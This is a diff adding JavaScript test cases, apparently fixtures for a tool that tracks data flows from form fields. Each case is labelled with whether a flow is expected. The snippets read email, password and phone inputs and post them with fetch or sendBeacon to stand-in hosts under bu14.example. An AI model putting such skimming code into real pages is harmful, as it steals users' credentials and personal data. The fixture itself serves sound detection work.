@@ -661,3 +661,41 @@ navigator.sendBeacon('https://sot.bu14.example/l', soe94.slice(1).join());
 // flow: email > sow.bu14.example via beacon
 const sow95 = ['a', 'b', document.querySelector('input[type=email]').value];
 navigator.sendBeacon('https://sow.bu14.example/l', sow95.slice(-1).join());
+
+//# map-entry-by-element-deleted
+// no flow
+const box96 = document.querySelector('#pin-box');
+const texts96 = new Map();
+texts96.set(box96, document.querySelector('input[type=password]').value);
+texts96.delete(box96);
+fetch('https://med.bu14.example/p', { method: 'POST', body: JSON.stringify([...texts96.values()]) });
+
+//# set-entry-added-again
+// flow: email > sea.bu14.example via fetch
+const mail97 = document.querySelector('input[type=email]').value;
+const sea97 = new Set();
+sea97.add(mail97);
+sea97.delete(mail97);
+sea97.add(mail97);
+fetch('https://sea.bu14.example/p', { method: 'POST', body: JSON.stringify([...sea97]) });
+
+//# set-entry-of-changed-variable-deleted
+// flow: email > sec.bu14.example via fetch
+// why: the variable holds another text when it is taken out
+let mail98 = document.querySelector('input[type=email]').value;
+const sec98 = new Set();
+sec98.add(mail98);
+mail98 = 'none';
+sec98.delete(mail98);
+fetch('https://sec.bu14.example/p', { method: 'POST', body: JSON.stringify([...sec98]) });
+
+//# inherited-but-read
+// flow: email > ibr.bu14.example via fetch
+const proto99 = { email: document.querySelector('input[type=email]').value };
+const child99 = Object.create(proto99);
+fetch('https://ibr.bu14.example/p?e=' + child99.email);
+
+//# filter-keeps-some
+// flow: phone > fks.bu14.example via fetch
+const kept100 = [document.querySelector('input[type=tel]').value].filter((x) => { if (x.length > 3) return true; return false; });
+fetch('https://fks.bu14.example/', { method: 'POST', body: kept100.join() });
